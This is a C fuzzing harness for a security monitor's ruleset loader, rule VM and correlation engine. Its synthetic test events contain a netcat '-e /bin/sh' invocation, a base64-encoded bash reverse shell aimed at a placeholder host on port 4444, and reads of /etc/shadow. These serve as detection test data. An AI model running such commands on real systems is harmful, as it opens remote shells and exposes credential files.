/* libFuzzer harness of the ruleset loader: arbitrary bytes (seeded with real compiled
 * rulesets; the checksum is rewritten so mutations reach the verifier) are verified, loaded
 * and, when accepted, every rule is evaluated against fixed events of each kind, and the
 * correlation engine runs its paths over them (twice, so partial matches advance). */
#include "bytecode.h"
#include "correlate.h"
#include "ruleset.h"
#include "vm.h"
#include <stdlib.h>
#include <string.h>

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static struct wt_event *events[3];

static void corr_emit(void *ctx, const struct wt_rt_path *path, struct wt_event *ev, char *extra)
{
	(void)ctx;
	(void)path;
	(void)ev;
	free(extra);
}

static struct wt_str s(struct wt_event_builder *b, const char *v)
{
	return wt_event_builder_add(b, v, strlen(v));
}

static void make_events(void)
{
	struct wt_event_builder b;
	wt_event_builder_init(&b);
	for (int k = 0; k < 3; k++) {
		wt_event_builder_reset(&b);
		struct wt_event *ev = &b.ev;
		ev->kind = k == 0 ? WT_KIND_EXEC : k == 1 ? WT_KIND_KPROBE : WT_KIND_EXIT;
		ev->time = 1791970800LL * 1000000000LL;
		ev->node = s(&b, "node-7");
		ev->proc.present = true;
		ev->proc.binary = s(&b, "/usr/bin/nc");
		ev->proc.args = s(&b, "-e /bin/sh \"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ= | base64 -d\" //etc//shadow");
		ev->proc.cwd = s(&b, "/proc/self/root/tmp/../var/run");
		ev->proc.exec_id = s(&b, "bm9kZTo3OjEyMw==");
		ev->parent.present = true;
		ev->parent.binary = s(&b, "/bin/bash");
		ev->ancestors[ev->n_ancestors++] = ev->parent.binary;
		ev->ancestors[ev->n_ancestors++] = s(&b, "/usr/sbin/sshd");
		ev->pod.present = true;
		ev->pod.ns = s(&b, "ws-alice");
		ev->pod.label_key[0] = s(&b, "app");
		ev->pod.label_val[0] = s(&b, "devenv");
		ev->pod.n_labels = 1;
		ev->ws_id = s(&b, "alice-ml");
		ev->function = s(&b, "security_file_permission");
		ev->args[0] = (struct wt_arg){.type = WT_ARG_FILE, .label = s(&b, "file"), .s = s(&b, "/etc/shadow"),
					      .s2 = s(&b, "-rw-r-----"), .s3 = {WT_STR_NONE, 0}};
		ev->args[1] = (struct wt_arg){.type = WT_ARG_SOCK, .label = {WT_STR_NONE, 0}, .s = s(&b, "10.96.0.1"),
					      .s2 = s(&b, "fd00::1"), .s3 = s(&b, "AF_INET"), .i = 443, .i2 = 40000};
		ev->args[2] = (struct wt_arg){.type = WT_ARG_INT, .label = {WT_STR_NONE, 0}, .s = {WT_STR_NONE, 0},
					      .s2 = {WT_STR_NONE, 0}, .s3 = {WT_STR_NONE, 0}, .i = 4};
		ev->n_args = 3;
		ev->sock.present = true;
		ev->sock.daddr = s(&b, "203.0.113.7");
		ev->sock.dport = 4444;
		events[k] = wt_event_finish(&b, 1);
	}
	wt_event_builder_free(&b);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	if (!events[0])
		make_events();
	if (size > 1 << 20)
		return 0;
	uint8_t *d = malloc(size ? size : 1);
	memcpy(d, data, size);
	if (size >= WT_BC_HEADER_SIZE) {
		wt_put_le32(d + 40, 0);
		wt_put_le32(d + 40, wt_crc32c(0, d, size));
	}
	struct wt_bc bc;
	char err[512];
	if (wt_bc_read(d, size, &bc, err, sizeof err) == WT_OK) {
		struct wt_ruleset *rs;
		if (wt_ruleset_from_bc_flags(&bc, WT_RULESET_NO_JIT, &rs, err, sizeof err) == WT_OK) {
			struct wt_vm vm;
			wt_vm_init(&vm);
			uint32_t *cand = calloc(rs->bc.n_rules + 1, sizeof *cand);
			for (int e = 0; e < 3; e++) {
				uint32_t n = wt_ruleset_candidates(rs, events[e], cand);
				for (uint32_t i = 0; i < n; i++)
					wt_vm_run(&vm, rs, &rs->rules[cand[i]], events[e]);
				for (uint32_t r = 0; r < rs->bc.n_rules; r++)
					wt_vm_run(&vm, rs, &rs->rules[r], events[e]);
			}
			struct wt_corr *corr = wt_corr_new(rs, 16, corr_emit, NULL);
			for (int round = 0; round < 2; round++)
				for (int e = 0; e < 3; e++)
					wt_corr_event(corr, &vm, events[e]);
			wt_corr_free(corr);
			free(cand);
			wt_vm_free(&vm);
			wt_ruleset_free(rs);
		}
	}
	free(d);
	return 0;
}
